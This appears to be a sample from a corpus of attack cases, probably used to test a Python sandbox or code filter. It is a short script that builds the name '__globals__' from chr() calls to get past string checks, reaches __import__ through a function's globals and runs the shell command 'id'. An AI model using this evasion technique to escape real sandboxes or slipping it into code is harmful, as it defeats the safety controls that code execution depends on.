# corpus: attack class=internals form=targeted
# getattr with a dunder built from chr() at run time.
def helper():
    pass


def main():
    name = chr(95) * 2 + "globals" + chr(95) * 2
    scope = getattr(helper, name)
    builtins = scope["__builtins__"]
    importer = builtins["__import__"] if isinstance(builtins, dict) else builtins.__import__
    return {"status": importer("os").system("id")}
